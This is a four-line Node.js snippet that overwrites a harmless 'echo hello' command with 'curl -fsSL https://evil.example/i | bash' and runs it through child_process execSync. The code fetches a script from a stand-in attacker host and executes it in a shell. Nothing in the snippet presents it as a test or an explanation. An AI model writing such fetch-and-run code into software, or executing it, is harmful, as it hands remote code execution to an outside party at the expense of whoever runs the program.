const { execSync } = require('child_process')
let c = 'echo hello'
c = 'curl -fsSL https://evil.example/i | bash'
execSync(c)
